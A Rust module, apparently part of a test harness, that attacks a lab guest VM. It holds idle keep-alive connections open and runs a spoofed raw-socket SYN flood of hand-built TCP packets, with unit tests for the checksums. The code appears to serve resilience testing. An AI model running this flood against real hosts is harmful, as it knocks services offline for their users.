//! An attacker with one address: connections that say nothing, and handshakes that are never finished.
//!
//! The address is ours only while its connections are opened. Then it is taken from the interface: the kernel no longer
//! answers for it, so that the guest's SYN|ACKs meet silence instead of a reset, and what we send in its name is made
//! here, by hand.

use crate::client::{After, Connection};
use crate::command::run;
use crate::namespace::Link;
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{Ipv4Addr, SocketAddr};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

/// The attacker's address on the guest's link: its last number.
const LAST: u8 = 66;

/// How often all handshakes are begun anew, from other ports: before a guest gives the last ones up by itself.
const EVERY: Duration = Duration::from_secs(1);

/// How many steps an even pace makes of that.
const STEPS: u32 = 200;

/// The first port of the handshakes, and how many there are.
const PORTS: std::ops::Range<u16> = 10_000..60_000;

/// How long one `ip` command may take.
const IP_LIMIT: Duration = Duration::from_secs(10);

/// IP protocol numbers (RFC 5237): TCP, and "the IP header is in what is sent" of raw(7).
const TCP: u8 = 6;
const RAW: i32 = 255;

/// When the handshakes are begun.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Pace {
    /// All at once, and then one after the other, so that there are always as many.
    Even,
    /// All at once, and all again each second.
    Bursts,
}

/// The attack, until it is dropped.
pub struct Attack {
    _idle: Vec<Connection>,
    stop: Arc<AtomicBool>,
    flood: Option<thread::JoinHandle<Result<u64, String>>>,
}

impl Attack {
    /// Opens so many connections to this server on the link, each of which asked once, and goes on with as many
    /// handshakes at a time.
    pub fn begin(link: &Link, server: SocketAddr, path: &str, number: usize, pace: Pace) -> Result<Attack, String> {
        let [a, b, c, _] = link.host.octets();
        let address = Ipv4Addr::new(a, b, c, LAST);
        set_address(link, "add", address)?;
        let open = |_| {
            let mut connection = Connection::open_from(address, server)?;
            connection.get(path, After::Keep)?;
            Ok(connection)
        };
        let idle = (0..number).map(open).collect::<Result<Vec<_>, String>>();
        set_address(link, "del", address)?;
        let stop = Arc::new(AtomicBool::new(false));
        let (until, target) = (stop.clone(), link.guest);
        let flood = thread::spawn(move || flood((address, target), server.port(), number, pace, &until));
        Ok(Attack { _idle: idle?, stop, flood: Some(flood) })
    }

    /// Ends it; how many handshakes were begun.
    pub fn end(mut self) -> Result<u64, String> {
        self.stop.store(true, Ordering::Release);
        let flood = self.flood.take().map(thread::JoinHandle::join);
        flood.and_then(Result::ok).unwrap_or_else(|| Err(String::from("the attack broke off")))
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Release);
    }
}

/// Gives the tap an address, or takes it away.
fn set_address(link: &Link, verb: &str, address: Ipv4Addr) -> Result<(), String> {
    let address = format!("{address}/{}", Link::PREFIX);
    run(Command::new("ip").args(["address", verb, &address, "dev", &link.tap]), IP_LIMIT).map(drop)
}

fn flood(
    (from, to): (Ipv4Addr, Ipv4Addr),
    port: u16,
    number: usize,
    pace: Pace,
    stop: &AtomicBool,
) -> Result<u64, String> {
    let failed = |error: std::io::Error| format!("SYNs could not be sent: {error}");
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).map_err(failed)?;
    let target = SocketAddr::from((to, 0)).into();
    let (step, wait) = match pace {
        Pace::Even => (number.div_ceil(STEPS as usize), EVERY / STEPS),
        Pace::Bursts => (number, EVERY),
    };
    let (mut sent, mut ports, mut now) = (0, PORTS.cycle(), number);
    while !stop.load(Ordering::Acquire) {
        let next = Instant::now() + wait;
        for source in ports.by_ref().take(now) {
            socket.send_to(&syn((from, source), (to, port), sent as u32), &target).map_err(failed)?;
            sent += 1;
        }
        now = step;
        thread::sleep(next.saturating_duration_since(Instant::now()));
    }
    Ok(sent)
}

/// An IPv4 packet (RFC 791) with a TCP segment (RFC 9293, section 3.1) that begins a handshake.
fn syn(from: (Ipv4Addr, u16), to: (Ipv4Addr, u16), sequence: u32) -> Vec<u8> {
    // Version 4 and a header of 5 words, no fragments, time to live 64; the kernel fills in the header's checksum.
    let mut packet = vec![0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, TCP, 0, 0];
    packet.extend(from.0.octets().into_iter().chain(to.0.octets()));
    let mut segment = Vec::with_capacity(20);
    segment.extend(from.1.to_be_bytes().into_iter().chain(to.1.to_be_bytes()));
    segment.extend(sequence.to_be_bytes());
    // No acknowledgement, 5 words, SYN, a window of 64,240, checksum, no urgent data.
    segment.extend([0, 0, 0, 0, 0x50, 0x02, 0xfa, 0xf0, 0, 0, 0, 0]);
    let pseudo = from.0.octets().into_iter().chain(to.0.octets()).chain([0, TCP, 0, 20]);
    let sum = checksum(pseudo.chain(segment.iter().copied()));
    segment[16..18].copy_from_slice(&sum.to_be_bytes());
    packet.extend(segment);
    packet
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: impl Iterator<Item = u8>) -> u16 {
    let sum: u32 = bytes.enumerate().map(|(at, byte)| u32::from(byte) << (8 * (1 - at % 2))).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    !((folded & 0xffff) + (folded >> 16)) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_a_checksum_that_is_believed() {
        // A guest that drops every SYN for its checksum would withstand any attack.
        let packet = syn((Ipv4Addr::new(10, 77, 4, 66), 10_001), (Ipv4Addr::new(10, 77, 4, 2), 80), 7);
        let pseudo = packet[12..20].iter().copied().chain([0, TCP, 0, 20]);
        assert_eq!(checksum(pseudo.chain(packet[20..].iter().copied())), 0);
        assert_eq!((packet.len(), packet[33]), (40, 2));
        // RFC 1071, section 3: the example's sum is ddf2.
        assert_eq!(checksum([0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7].into_iter()), !0xddf2);
    }
}
